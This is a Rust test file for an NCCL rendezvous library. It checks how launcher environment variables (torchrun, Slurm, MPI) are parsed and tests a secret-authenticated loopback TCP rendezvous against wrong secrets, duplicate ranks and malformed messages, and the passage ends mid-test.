//! Launcher variables, the TCP rendezvous and PyTorch's TCPStore protocol, on
//! loopback with real sockets and real processes (no GPU needed). Every fault
//! of issue 11 has a test here; every network test talks to 127.0.0.1 only
//! and is bounded in connections and time.

use std::collections::HashMap;
use std::ffi::OsString;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::ffi::OsStringExt;
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use nccl::bootstrap::{
    LaunchInfo, LaunchOptions, LaunchSource, Rendezvous, Secret, StoreBootstrap, TcpBootstrap,
    TcpStore, TcpStoreServer,
};
use nccl::{Bootstrap, Error, UniqueId};

// ---------------------------------------------------------------- variables

fn vars(pairs: &[(&str, &str)]) -> Result<LaunchInfo, Error> {
    let m: HashMap<String, String> = pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    LaunchInfo::from_vars(&move |k| m.get(k).cloned())
}

/// Environment variables of one case.
type Vars = &'static [(&'static str, &'static str)];
/// rank, world, local rank, rendezvous, source.
type Expected = (usize, usize, usize, Rendezvous, LaunchSource);
/// Variables, what they give, the launchers ignored.
type Case = (
    Vec<(&'static str, &'static str)>,
    Expected,
    Vec<LaunchSource>,
);

fn tcp(addr: &str) -> Rendezvous {
    match vars(&[
        ("NCCL_RS_RANK", "0"),
        ("NCCL_RS_WORLD_SIZE", "2"),
        ("NCCL_RS_ROOT", addr),
    ])
    .unwrap()
    .rendezvous
    {
        Rendezvous::Tcp { addr, .. } => Rendezvous::Tcp { addr, from: "" },
        other => panic!("{other:?}"),
    }
}

/// The rendezvous without its `from` text, to compare.
fn plain(r: Rendezvous) -> Rendezvous {
    match r {
        Rendezvous::Tcp { addr, .. } => Rendezvous::Tcp { addr, from: "" },
        Rendezvous::Store { addr, key, .. } => Rendezvous::Store {
            addr,
            key,
            from: "",
        },
        other => other,
    }
}

fn store(addr: &str, key: &str) -> Rendezvous {
    Rendezvous::Store {
        addr: addr.into(),
        key: key.into(),
        from: "",
    }
}

/// A Slurm step of 5 tasks on gpu[01-04,07], as `srun -n 5` sets it.
const SRUN: &[(&str, &str)] = &[
    ("SLURM_JOB_ID", "123456"),
    ("SLURM_JOBID", "123456"),
    ("SLURM_STEP_ID", "2"),
    ("SLURM_STEPID", "2"),
    ("SLURM_PROCID", "3"),
    ("SLURM_LOCALID", "0"),
    ("SLURM_NTASKS", "5"),
    ("SLURM_NPROCS", "5"),
    ("SLURM_NNODES", "5"),
    ("SLURM_NODEID", "3"),
    ("SLURM_STEP_NODELIST", "gpu[01-04,07]"),
    ("SLURM_JOB_NODELIST", "gpu[01-04,07]"),
    ("SLURM_NODELIST", "gpu[01-04,07]"),
    ("SLURMD_NODENAME", "gpu04"),
    ("SLURM_TASKS_PER_NODE", "1(x5)"),
    ("SLURM_CPUS_ON_NODE", "64"),
];

/// Rank 1 of `mpiexec -n 2` on one node, as MPICH 4.0's Hydra sets it.
const HYDRA: &[(&str, &str)] = &[
    ("PMI_RANK", "1"),
    ("PMI_SIZE", "2"),
    ("MPI_LOCALRANKID", "1"),
    ("MPI_LOCALNRANKS", "2"),
    ("PMI_FD", "8"),
    ("HYDI_CONTROL_FD", "7"),
];

/// The documented port of a one-node mpirun job: FNV-1a of the job id.
fn mpi_port(job: &str) -> u16 {
    let h = job.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    });
    nccl::bootstrap::slurm_port(h % 1_000_000_007, 0)
}

#[test]
fn launcher_variables_table() {
    let srun_port = 20000 + ((123456u64 * 97 + 2) % 10000) as u16;
    let mut srun = SRUN.to_vec();
    // torchrun inside an sbatch script: the workers inherit the batch step's
    // SLURM_PROCID=0 and SLURM_NTASKS; torchrun's values win
    let sbatch_torchrun: Vec<(&str, &str)> = [
        ("SLURM_JOB_ID", "99"),
        ("SLURM_PROCID", "0"),
        ("SLURM_LOCALID", "0"),
        ("SLURM_NTASKS", "1"),
        ("SLURM_JOB_NODELIST", "a[1-2]-ib,b3"),
        ("SLURMD_NODENAME", "a1-ib"),
        ("RANK", "3"),
        ("WORLD_SIZE", "8"),
        ("LOCAL_RANK", "3"),
        ("LOCAL_WORLD_SIZE", "4"),
        ("GROUP_RANK", "0"),
        ("MASTER_ADDR", "a1-ib"),
        ("MASTER_PORT", "29500"),
        ("TORCHELASTIC_RUN_ID", "job99"),
        ("TORCHELASTIC_RESTART_COUNT", "2"),
        ("TORCHELASTIC_MAX_RESTARTS", "3"),
        ("TORCHELASTIC_USE_AGENT_STORE", "True"),
    ]
    .to_vec();
    // mpirun inside salloc: the ranks inherit the SLURM_* of the step that
    // started Open MPI's daemons (one task per node)
    let salloc_mpirun: Vec<(&str, &str)> = [
        ("SLURM_JOB_ID", "4242"),
        ("SLURM_STEP_ID", "0"),
        ("SLURM_PROCID", "1"),
        ("SLURM_LOCALID", "0"),
        ("SLURM_NTASKS", "2"),
        ("SLURM_STEP_NODELIST", "node[08-09]"),
        ("SLURMD_NODENAME", "node09"),
        ("OMPI_COMM_WORLD_RANK", "5"),
        ("OMPI_COMM_WORLD_SIZE", "8"),
        ("OMPI_COMM_WORLD_LOCAL_RANK", "1"),
        ("OMPI_COMM_WORLD_LOCAL_SIZE", "4"),
        ("OMPI_COMM_WORLD_NODE_RANK", "1"),
    ]
    .to_vec();
    let salloc_hydra: Vec<(&str, &str)> = [
        ("SLURM_JOB_ID", "4242"),
        ("SLURM_STEP_ID", "1"),
        ("SLURM_PROCID", "0"),
        ("SLURM_LOCALID", "0"),
        ("SLURM_NTASKS", "2"),
        ("SLURM_STEP_NODELIST", "node[08-09]"),
        ("SLURMD_NODENAME", "node08"),
        ("PMI_RANK", "2"),
        ("PMI_SIZE", "8"),
        ("MPI_LOCALRANKID", "2"),
        ("MPI_LOCALNRANKS", "4"),
        ("PMI_FD", "9"),
        ("HYDI_CONTROL_FD", "7"),
    ]
    .to_vec();
    // srun --mpi=pmi2 sets PMI_RANK and PMI_SIZE for the ranks it starts
    let srun_pmi2: Vec<(&str, &str)> = SRUN
        .iter()
        .copied()
        .chain([
            ("PMI_RANK", "3"),
            ("PMI_SIZE", "5"),
            ("PMI_FD", "12"),
            ("PMI_JOBID", "123456.2"),
        ])
        .collect();
    let cases: Vec<Case> = vec![
        (
            vec![
                ("RANK", "3"),
                ("WORLD_SIZE", "8"),
                ("LOCAL_RANK", "1"),
                ("MASTER_ADDR", "10.0.0.1"),
                ("MASTER_PORT", "29500"),
            ],
            (3, 8, 1, tcp("10.0.0.1:29500"), LaunchSource::Torchrun),
            vec![],
        ),
        // torchrun's agent store: the workers are told it runs there
        (
            vec![
                ("RANK", "1"),
                ("WORLD_SIZE", "2"),
                ("LOCAL_RANK", "1"),
                ("MASTER_ADDR", "127.0.0.1"),
                ("MASTER_PORT", "29611"),
                ("TORCHELASTIC_USE_AGENT_STORE", "True"),
                ("TORCHELASTIC_RUN_ID", "none"),
                ("TORCHELASTIC_RESTART_COUNT", "0"),
            ],
            (
                1,
                2,
                1,
                store("127.0.0.1:29611", "nccl-rs/none/0/uid"),
                LaunchSource::Torchrun,
            ),
            vec![],
        ),
        (
            sbatch_torchrun,
            (
                3,
                8,
                3,
                store("a1-ib:29500", "nccl-rs/job99/2/uid"),
                LaunchSource::Torchrun,
            ),
            vec![LaunchSource::Slurm],
        ),
        (
            salloc_mpirun.clone(),
            (
                5,
                8,
                1,
                tcp(&format!("node08:{}", 20000 + (4242 * 97) % 10000)),
                LaunchSource::OpenMpi,
            ),
            vec![LaunchSource::Slurm],
        ),
        // srun ./engine, nothing set by hand
        (
            srun.clone(),
            (
                3,
                5,
                0,
                tcp(&format!("gpu01:{srun_port}")),
                LaunchSource::Slurm,
            ),
            vec![],
        ),
        (
            {
                srun.push(("MASTER_PORT", "31000"));
                srun.clone()
            },
            (3, 5, 0, tcp("gpu01:31000"), LaunchSource::Slurm),
            vec![],
        ),
        (
            {
                srun.push(("MASTER_ADDR", "login1"));
                srun.clone()
            },
            (3, 5, 0, tcp("login1:31000"), LaunchSource::Slurm),
            vec![],
        ),
        (
            vec![
                ("OMPI_COMM_WORLD_RANK", "0"),
                ("OMPI_COMM_WORLD_SIZE", "2"),
                ("OMPI_COMM_WORLD_LOCAL_RANK", "0"),
            ],
            (0, 2, 0, Rendezvous::Unset, LaunchSource::OpenMpi),
            vec![],
        ),
        // mpirun -np 2 on one node (Open MPI 4.1, Debian 12)
        (
            vec![
                ("OMPI_COMM_WORLD_RANK", "1"),
                ("OMPI_COMM_WORLD_SIZE", "2"),
                ("OMPI_COMM_WORLD_LOCAL_RANK", "1"),
                ("OMPI_COMM_WORLD_LOCAL_SIZE", "2"),
                ("OMPI_COMM_WORLD_NODE_RANK", "1"),
                ("OMPI_MCA_ess_base_jobid", "428802049"),
                ("PMIX_NAMESPACE", "428802049"),
                ("PMIX_RANK", "1"),
            ],
            (
                1,
                2,
                1,
                tcp(&format!("127.0.0.1:{}", mpi_port("428802049"))),
                LaunchSource::OpenMpi,
            ),
            vec![],
        ),
        // on two nodes: no guess
        (
            vec![
                ("OMPI_COMM_WORLD_RANK", "1"),
                ("OMPI_COMM_WORLD_SIZE", "4"),
                ("OMPI_COMM_WORLD_LOCAL_RANK", "1"),
                ("OMPI_COMM_WORLD_LOCAL_SIZE", "2"),
                ("PMIX_NAMESPACE", "428802049"),
            ],
            (1, 4, 1, Rendezvous::Unset, LaunchSource::OpenMpi),
            vec![],
        ),
        // mpiexec -n 2 on one node (MPICH 4.0's Hydra): from_vars cannot see
        // the parent process the loopback rendezvous needs
        (
            HYDRA.to_vec(),
            (1, 2, 1, Rendezvous::Unset, LaunchSource::Pmi),
            vec![],
        ),
        (
            {
                let mut e = HYDRA.to_vec();
                e.extend([("MASTER_ADDR", "10.0.0.9"), ("MASTER_PORT", "29500")]);
                e
            },
            (1, 2, 1, tcp("10.0.0.9:29500"), LaunchSource::Pmi),
            vec![],
        ),
        // mpiexec inside salloc: each rank keeps the SLURM_* of the step of
        // Hydra's proxies, SLURM_PROCID=0 for every rank of node08
        (
            salloc_hydra.clone(),
            (
                2,
                8,
                2,
                tcp(&format!("node08:{}", 20000 + (4242 * 97 + 1) % 10000)),
                LaunchSource::Pmi,
            ),
            vec![LaunchSource::Slurm],
        ),
        // Cray PALS (PBS's mpiexec): PMI_LOCAL_RANK
        (
            vec![
                ("PMI_RANK", "5"),
                ("PMI_SIZE", "8"),
                ("PMI_LOCAL_RANK", "1"),
                ("PMI_LOCAL_SIZE", "4"),
                ("PALS_RANKID", "5"),
                ("PALS_NODEID", "1"),
                ("PALS_APID", "2a0c8d55-3b1e-4e21-9c2b-7f0e2c9ab1d4"),
                ("MASTER_ADDR", "x1000c0s0b0n0"),
                ("MASTER_PORT", "29500"),
            ],
            (5, 8, 1, tcp("x1000c0s0b0n0:29500"), LaunchSource::Pmi),
            vec![],
        ),
        (
            vec![
                ("PMI_RANK", "5"),
                ("PMI_SIZE", "8"),
                ("PMI_LOCAL_RANK", "1"),
            ],
            (5, 8, 1, Rendezvous::Unset, LaunchSource::Pmi),
            vec![],
        ),
        // both local ranks: Hydra's wins
        (
            vec![
                ("PMI_RANK", "5"),
                ("PMI_SIZE", "8"),
                ("MPI_LOCALRANKID", "3"),
                ("PMI_LOCAL_RANK", "1"),
            ],
            (5, 8, 3, Rendezvous::Unset, LaunchSource::Pmi),
            vec![],
        ),
        // srun --mpi=pmi2: PMI_RANK and PMI_SIZE without a local rank are
        // Slurm's own launch, exactly as without them
        (
            srun_pmi2.clone(),
            (
                3,
                5,
                0,
                tcp(&format!("gpu01:{srun_port}")),
                LaunchSource::Slurm,
            ),
            vec![],
        ),
        (
            vec![
                ("NCCL_RS_RANK", "1"),
                ("NCCL_RS_WORLD_SIZE", "2"),
                ("NCCL_RS_ROOT", "host:7"),
                ("RANK", "0"),
                ("WORLD_SIZE", "9"),
            ],
            (1, 2, 0, tcp("host:7"), LaunchSource::Explicit),
            vec![LaunchSource::Torchrun],
        ),
        (
            vec![
                ("NCCL_RS_RANK", "1"),
                ("NCCL_RS_WORLD_SIZE", "2"),
                ("NCCL_RS_STORE", "[::1]:5"),
                ("NCCL_RS_RUN_ID", "sync"),
            ],
            (
                1,
                2,
                0,
                store("[::1]:5", "nccl-rs/sync/0/uid"),
                LaunchSource::Explicit,
            ),
            vec![],
        ),
        // IPv6 master addresses, with and without brackets
        (
            vec![
                ("RANK", "0"),
                ("WORLD_SIZE", "2"),
                ("LOCAL_RANK", "0"),
                ("MASTER_ADDR", "::1"),
                ("MASTER_PORT", "80"),
            ],
            (0, 2, 0, tcp("[::1]:80"), LaunchSource::Torchrun),
            vec![],
        ),
        (
            vec![
                ("RANK", "0"),
                ("WORLD_SIZE", "2"),
                ("LOCAL_RANK", "0"),
                ("MASTER_ADDR", "[::1]"),
                ("MASTER_PORT", "29500"),
            ],
            (0, 2, 0, tcp("[::1]:29500"), LaunchSource::Torchrun),
            vec![],
        ),
    ];
    for (env, (rank, world, local, rdv, source), ignored) in cases {
        let i = vars(&env).unwrap_or_else(|e| panic!("{env:?}: {e}"));
        assert_eq!(
            (
                i.rank,
                i.world,
                i.local_rank,
                plain(i.rendezvous),
                i.source,
                i.ignored
            ),
            (rank, world, local, plain(rdv), source, ignored),
            "{env:?}"
        );
    }
    // the launcher's job id: Hydra inside salloc takes its proxies' step;
    // srun --mpi=pmi2 is exactly the srun launch
    assert_eq!(
        vars(&salloc_hydra).unwrap().job,
        "run=default;restart=0;slurm=4242.1"
    );
    assert_eq!(vars(HYDRA).unwrap().job, "run=default;restart=0");
    assert_eq!(vars(&srun_pmi2).unwrap(), vars(SRUN).unwrap());
    let bad: &[(Vars, &str, &str)] = &[
        (&[], "RANK/WORLD_SIZE", "no launcher variables"),
        // PMI_RANK alone names no launcher, and says what is missing
        (
            &[("PMI_RANK", "0"), ("PMI_SIZE", "2")],
            "MPI_LOCALRANKID/PMI_LOCAL_RANK",
            "PMI_RANK is set but no local rank",
        ),
        (
            &[
                ("PMI_RANK", "x"),
                ("PMI_SIZE", "2"),
                ("MPI_LOCALRANKID", "0"),
            ],
            "PMI_RANK",
            "not a non-negative integer",
        ),
        (
            &[
                ("PMI_RANK", "2"),
                ("PMI_SIZE", "2"),
                ("MPI_LOCALRANKID", "0"),
            ],
            "PMI_RANK/PMI_SIZE",
            "not below the world size",
        ),
        (
            &[("PMI_RANK", "0"), ("PMI_LOCAL_RANK", "0")],
            "PMI_SIZE",
            "missing",
        ),
        (
            &[
                ("PMI_RANK", "0"),
                ("PMI_SIZE", "2"),
                ("PMI_LOCAL_RANK", "-1"),
            ],
            "PMI_LOCAL_RANK",
            "not a non-negative integer",
        ),
        (&[("RANK", "1")], "WORLD_SIZE", "missing"),
        (
            &[("RANK", "1"), ("WORLD_SIZE", "2")],
            "LOCAL_RANK",
            "missing (RANK is set): the rank among this machine's processes picks its GPU",
        ),
        (
            &[("RANK", "x"), ("WORLD_SIZE", "2"), ("LOCAL_RANK", "0")],
            "RANK",
            "not a non-negative integer",
        ),
        (
            &[("RANK", "2"), ("WORLD_SIZE", "2"), ("LOCAL_RANK", "0")],
            "RANK/WORLD_SIZE",
            "not below the world size",
        ),
        (
            &[("RANK", "0"), ("WORLD_SIZE", "0"), ("LOCAL_RANK", "0")],
            "WORLD_SIZE",
            "at least 1",
        ),
        // 2^40 ranks: a typed error, not a 61 TB allocation
        (
            &[
                ("RANK", "0"),
                ("WORLD_SIZE", "1099511627776"),
                ("LOCAL_RANK", "0"),
            ],
            "WORLD_SIZE",
            "above 2147483647",
        ),
        (
            &[
                ("NCCL_RS_RANK", "4294967297"),
                ("NCCL_RS_WORLD_SIZE", "4294967298"),
            ],
            "NCCL_RS_RANK",
            "above 2147483647",
        ),
        (
            &[
                ("RANK", "0"),
                ("WORLD_SIZE", "2"),
                ("LOCAL_RANK", "0"),
                ("MASTER_ADDR", "h"),
            ],
            "MASTER_PORT",
            "missing",
        ),
        (
            &[
                ("RANK", "0"),
                ("WORLD_SIZE", "2"),
                ("LOCAL_RANK", "0"),
                ("MASTER_PORT", "1"),
            ],
            "MASTER_ADDR",
            "missing",
        ),
        (
            &[
                ("RANK", "0"),
                ("WORLD_SIZE", "2"),
                ("LOCAL_RANK", "0"),
                ("MASTER_ADDR", "h"),
                ("MASTER_PORT", "99999"),
            ],
            "MASTER_PORT",
            "not a port",
        ),
        (
            &[
                ("RANK", "0"),
                ("WORLD_SIZE", "2"),
                ("LOCAL_RANK", "0"),
                ("MASTER_ADDR", "h"),
                ("MASTER_PORT", "0"),
            ],
            "MASTER_PORT",
            "port 0",
        ),
        (
            &[
                ("NCCL_RS_RANK", "0"),
                ("NCCL_RS_WORLD_SIZE", "2"),
                ("NCCL_RS_ROOT", "::1:29500"),
            ],
            "NCCL_RS_ROOT",
            "needs brackets",
        ),
        (
            &[
                ("SLURM_PROCID", "0"),
                ("SLURM_NTASKS", "2"),
                ("SLURM_LOCALID", "0"),
                ("SLURM_JOB_ID", "7"),
                ("SLURM_STEP_NODELIST", "gpu[01-"),
            ],
            "SLURM_STEP_NODELIST",
            "not a Slurm hostlist",
        ),
    ];
    for (env, var, problem) in bad {
        match vars(env) {
            Err(Error::LaunchEnv { var: v, problem: p }) => {
                assert_eq!(v, *var, "{env:?}");
                assert!(p.contains(problem), "{env:?}: {p}");
            }
            other => panic!("{env:?}: expected LaunchEnv, got {other:?}"),
        }
    }
}

#[test]
fn values_that_are_not_utf8_are_errors_not_ignored() {
    let get = |k: &str| -> Option<OsString> {
        match k {
            "NCCL_RS_RANK" => Some(OsString::from_vec(vec![b'1', 0xff])),
            "NCCL_RS_WORLD_SIZE" => Some("2".into()),
            "RANK" => Some("0".into()),
            "WORLD_SIZE" => Some("2".into()),
            "LOCAL_RANK" => Some("0".into()),
            _ => None,
        }
    };
    match LaunchInfo::from_os_vars(&get) {
        Err(Error::LaunchEnv { var, problem }) => {
            assert_eq!(var, "NCCL_RS_RANK");
            assert!(problem.contains("not valid UTF-8"), "{problem}");
        }
        other => panic!("{other:?}"),
    }
}

/// A lookup that answers differently when asked again (a caller's closure,
/// or the environment changed by another thread while it is read): a typed
/// error, never a panic.
#[test]
fn a_variable_that_vanishes_while_read_is_an_error() {
    let asked = std::cell::Cell::new(0);
    let get = |k: &str| -> Option<String> {
        match k {
            "NCCL_RS_RANK" => {
                asked.set(asked.get() + 1);
                (asked.get() == 1).then(|| "0".to_string())
            }
            "NCCL_RS_WORLD_SIZE" => Some("2".into()),
            _ => None,
        }
    };
    match LaunchInfo::from_vars(&get) {
        Err(Error::LaunchEnv { var, problem }) => {
            assert_eq!(var, "NCCL_RS_RANK");
            assert!(problem.contains("unset while it was read"), "{problem}");
        }
        other => panic!("{other:?}"),
    }
    assert!(asked.get() >= 2);
}

/// A launcher nested in another starts at least as many processes as the
/// outer one: torchrun under mpirun is taken, stale RANK/WORLD_SIZE beside
/// mpirun's larger world (a shell's, a pod's) are an error, not a world
/// of one in each process.
#[test]
fn a_taken_world_smaller_than_an_outer_launchers_is_an_error() {
    let nested = vars(&[
        ("RANK", "5"),
        ("WORLD_SIZE", "16"),
        ("LOCAL_RANK", "5"),
        ("MASTER_ADDR", "10.0.0.1"),
        ("MASTER_PORT", "29500"),
        ("OMPI_COMM_WORLD_RANK", "0"),
        ("OMPI_COMM_WORLD_SIZE", "2"),
        ("OMPI_COMM_WORLD_LOCAL_RANK", "0"),
    ])
    .unwrap();
    assert_eq!((nested.source, nested.world), (LaunchSource::Torchrun, 16));
    for outer in [
        [
            ("OMPI_COMM_WORLD_RANK", "2"),
            ("OMPI_COMM_WORLD_SIZE", "4"),
            ("OMPI_COMM_WORLD_LOCAL_RANK", "2"),
        ],
        [
            ("PMI_RANK", "2"),
            ("PMI_SIZE", "4"),
            ("MPI_LOCALRANKID", "2"),
        ],
    ] {
        let mut v = vec![("RANK", "0"), ("WORLD_SIZE", "1"), ("LOCAL_RANK", "0")];
        v.extend(outer);
        match vars(&v) {
            Err(Error::LaunchEnv { var, problem }) => {
                assert_eq!(var, format!("WORLD_SIZE/{}", outer[1].0));
                assert!(problem.contains("unset the stale ones"), "{problem}");
            }
            other => panic!("{other:?}"),
        }
    }
    // explicit values are the user's: taken whatever the launcher says
    let explicit = vars(&[
        ("NCCL_RS_RANK", "0"),
        ("NCCL_RS_WORLD_SIZE", "1"),
        ("OMPI_COMM_WORLD_RANK", "2"),
        ("OMPI_COMM_WORLD_SIZE", "4"),
        ("OMPI_COMM_WORLD_LOCAL_RANK", "2"),
    ])
    .unwrap();
    assert_eq!(explicit.world, 1);
}

#[test]
fn hydra_ranks_without_a_meeting_place_are_told_how_to_give_one() {
    let info = vars(HYDRA).unwrap();
    match info.bootstrap(&LaunchOptions::default()) {
        Err(Error::LaunchEnv { var, problem }) => {
            assert_eq!(var, "MASTER_ADDR/MASTER_PORT");
            assert!(
                problem.contains("-genv MASTER_ADDR") && problem.contains("wrapper script"),
                "{problem}"
            );
        }
        Err(e) => panic!("{e:?}"),
        Ok(_) => panic!("accepted"),
    }
}

#[test]
fn slurm_rank_0_on_another_node_than_the_first_is_told_so() {
    let mut env = SRUN.to_vec();
    env.retain(|(k, _)| *k != "SLURM_PROCID" && *k != "SLURMD_NODENAME");
    env.push(("SLURM_PROCID", "0"));
    env.push(("SLURMD_NODENAME", "gpu03"));
    let info = vars(&env).unwrap();
    match info.bootstrap(&nccl::bootstrap::LaunchOptions::default()) {
        Err(Error::LaunchEnv { var, problem }) => {
            assert_eq!(var, "SLURM_STEP_NODELIST");
            assert!(problem.contains("runs on gpu03, not on gpu01"), "{problem}");
        }
        Err(e) => panic!("{e:?}"),
        Ok(_) => panic!("accepted"),
    }
}

// ---------------------------------------------------------------- processes

const PEER: &str = env!("CARGO_BIN_EXE_rendezvous-peer");

fn peer_os(args: &[OsString]) -> Child {
    Command::new(PEER)
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn peer_secret(addr: &str, rank: usize, world: usize, secret: &[u8], ms: u64, n: usize) -> Child {
    peer_os(&[
        addr.into(),
        rank.to_string().into(),
        world.to_string().into(),
        OsString::from_vec(secret.to_vec()),
        ms.to_string().into(),
        n.to_string().into(),
    ])
}

fn peer(addr: &str, rank: usize, world: usize, secret: &str, ms: u64, n: usize) -> Child {
    peer_secret(addr, rank, world, secret.as_bytes(), ms, n)
}

fn out(o: Output) -> String {
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

/// The `IDS …` line of a finished peer.
fn ids_of(k: Child) -> String {
    let o = out(k.wait_with_output().unwrap());
    o.lines()
        .find(|l| l.starts_with("IDS ") || l.starts_with("ERR "))
        .unwrap_or(&o)
        .to_string()
}

/// Rank 0 as a process: returns it and the address it listens on.
fn root_process(extra: &[&str], world: usize, secret: &[u8], ms: u64) -> (Child, String) {
    let mut args: Vec<OsString> = extra.iter().map(OsString::from).collect();
    args.extend([
        "127.0.0.1:0".into(),
        "0".into(),
        world.to_string().into(),
        OsString::from_vec(secret.to_vec()),
        ms.to_string().into(),
        "1".into(),
    ]);
    let mut c = peer_os(&args);
    let mut line = String::new();
    let mut r = BufReader::new(c.stdout.as_mut().unwrap());
    r.read_line(&mut line).unwrap();
    let addr = line
        .strip_prefix("LISTEN ")
        .unwrap_or_else(|| panic!("{line}"))
        .trim()
        .to_string();
    (c, addr)
}

/// A free loopback port (bound, then released).
fn free_addr() -> String {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.local_addr().unwrap().to_string()
}

/// Rank 0 in a thread of this process, listening on a free port.
fn root(
    world: usize,
    secret: Option<&str>,
    ms: u64,
) -> (
    String,
    std::thread::JoinHandle<Result<Vec<UniqueId>, Error>>,
) {
    root_with(world, secret, Duration::from_millis(ms), |b| b)
}

fn root_with(
    world: usize,
    secret: Option<&str>,
    timeout: Duration,
    f: impl FnOnce(TcpBootstrap) -> TcpBootstrap,
) -> (
    String,
    std::thread::JoinHandle<Result<Vec<UniqueId>, Error>>,
) {
    let mut b =
        f(TcpBootstrap::new("127.0.0.1:0", 0, world, secret.map(str::as_bytes), timeout).unwrap());
    let addr = b.listen().unwrap().to_string();
    let h = std::thread::spawn(move || b.share_ids(Some(vec![UniqueId::new()?])));
    (addr, h)
}

#[test]
fn ranks_as_processes_all_receive_the_same_ids() {
    // a secret of random bytes that are not UTF-8, as `head -c16 /dev/urandom` gives
    let binary = [
        0xffu8, 0xfe, 0x01, 0x80, b'x', 0xc3, 1, 2, 3, 4, 5, 6, 7, 8, 9, 0xfd,
    ];
    for (world, n, secret) in [(4, 1, &b"s3cret-0123456789abcdef"[..]), (3, 3, &binary[..])] {
        let addr = free_addr();
        let kids: Vec<_> = (0..world)
            .map(|r| peer_secret(&addr, r, world, secret, 20_000, n))
            .collect();
        let outs: Vec<String> = kids.into_iter().map(ids_of).collect();
        assert!(outs[0].starts_with("IDS "), "{outs:?}");
        assert!(outs.iter().all(|o| o == &outs[0]), "{outs:?}");
        assert_eq!(outs[0].trim_start_matches("IDS ").split(',').count(), n);
    }
}

/// Sends raw bytes to rank 0; returns what it answered before closing.
fn poke(addr: &str, bytes: &[u8], close_write: bool) -> Vec<u8> {
    let mut s = TcpStream::connect(addr).unwrap();
    let _ = s.write_all(bytes);
    if close_write {
        let _ = s.shutdown(std::net::Shutdown::Write);
    }
    s.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
    let mut got = Vec::new();
    let _ = s.read_to_end(&mut got);
    got
}

#[test]
fn a_wrong_secret_gets_nothing_but_unproven() {
    let (addr, h) = root(2, Some("right-0123456789abcdef"), 1500);
    let t = Instant::now();
    // a stranger without the secret comes first, then one with a wrong one
    let none = ids_of(peer(&addr, 1, 2, "", 5000, 1));
    let wrong = ids_of(peer(&addr, 1, 2, "wrong-0123456789abcdef", 5000, 1));
    for o in [&none, &wrong] {
        assert!(
            o.starts_with("ERR Rendezvous") && o.contains("did not accept our proof"),
            "{o}"
        );
    }
    match h.join().unwrap() {
        Err(Error::RanksMissing {
            missing,
            missing_count: 1,
            world: 2,
            ..
        }) => assert_eq!(missing, vec![1]),
        other => panic!("{other:?}"),
    }
    assert!(t.elapsed() < Duration::from_secs(3), "{:?}", t.elapsed());
}

#[test]
fn a_stranger_without_the_secret_cannot_take_a_rank() {
    let (addr, h) = root(2, Some("right-0123456789abcdef"), 10_000);
    let stranger = ids_of(peer(&addr, 1, 2, "", 5000, 1));
    assert!(stranger.starts_with("ERR"), "{stranger}");
    let real = ids_of(peer(&addr, 1, 2, "right-0123456789abcdef", 5000, 1));
    let ids = h.join().unwrap().unwrap();
    assert_eq!(real, format!("IDS {}", ids[0]));
}

#[test]
fn garbage_and_truncated_messages_get_no_answer_and_do_not_stop_rank_0() {
    let (addr, h) = root(2, Some("s-secret-0123456789"), 20_000);
    let t = Instant::now();
    for junk in [
        &b"GET / HTTP/1.1\r\nHost: x\r\n\r\n\r\n\r\n\r\n\r\n"[..],
        &b"NCCLRS01\x00\x00\x00\x01\x00\x00\x00\x02\x00\x00\x00\x01"[..],
        &b"NCCLRS04\x00\x00"[..],
        &[0xAB; 1 << 20][..],
    ] {
        let a = poke(&addr, junk, true);
        assert!(
            a.is_empty(),
            "answered a stranger: {:?}",
            String::from_utf8_lossy(&a)
        );
    }
    // a well-formed hello and garbage instead of a sealed join
    let mut hello = b"NCCLRS04".to_vec();
    hello.extend_from_slice(&[7; 32]);
    hello.extend_from_slice(&[0; 60]);
    let a = poke(&addr, &hello, true);
    assert_eq!(a.len(), 44, "only the challenge and UNPROVEN");
    assert_eq!(a[40..], [0; 4], "UNPROVEN is a length of 0");
    assert!(t.elapsed() < Duration::from_secs(5), "{:?}", t.elapsed());
    let real = ids_of(peer(&addr, 1, 2, "s-secret-0123456789", 5000, 1));
    assert_eq!(real, format!("IDS {}", h.join().unwrap().unwrap()[0]));
}

#[test]
fn refusals_reach_only_authenticated_peers_and_never_state_rank_0s_values() {
    let (addr, h) = root(3, Some("s-secret-0123456789"), 20_000);
    // another world size is another job: its keys do not open
    let other_world = ids_of(peer(&addr, 1, 9, "s-secret-0123456789", 5000, 1));
    assert!(
        other_world.contains("did not accept our proof") && other_world.contains("world size"),
        "{other_world}"
    );
    let many = ids_of(peer(&addr, 1, 3, "s-secret-0123456789", 5000, 2));
    assert!(many.contains("asks for 2 ids"), "{many}");
    for o in [&other_world, &many] {
        let reason = o.split("reason: ").nth(1).unwrap_or(o);
        assert!(!reason.contains('3'), "leaks the world size: {o}");
    }
    // two processes claim rank 1 (both hold the secret): one is refused, the
    // real ranks finish
    let a1 = peer(&addr, 1, 3, "s-secret-0123456789", 20_000, 1);
    std::thread::sleep(Duration::from_millis(300));
    let dup = ids_of(peer(&addr, 1, 3, "s-secret-0123456789", 20_000, 1));
    assert!(dup.contains("rank 1 has already joined"), "{dup}");
    let r2 = peer(&addr, 2, 3, "s-secret-0123456789", 20_000, 1);
    let ids = h.join().unwrap().unwrap();
    for k in [a1, r2] {
        assert_eq!(ids_of(k), format!("IDS {}", ids[0]));
    }
}

#[test]
fn without_a_secret_a_second_claim_of_a_rank_ends_the_rendezvous_loudly() {
    let (root, addr) = root_process(&[], 3, b"", 20_000);
    let first = peer(&addr, 1, 3, "", 20_000, 1);
    std::thread::sleep(Duration::from_millis(300));
    let second = peer(&addr, 1, 3, "", 20_000, 1);
    let o = root.wait_with_output().unwrap();
    let stdout = out(o.clone());
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(
        stdout.contains("claim rank 1") && stdout.contains("NCCL_RS_SECRET"),
        "{stdout}"
    );
    assert_eq!(stderr.matches("WARN ").count(), 1, "{stderr}");
    assert!(stderr.contains("bearer token"), "{stderr}");
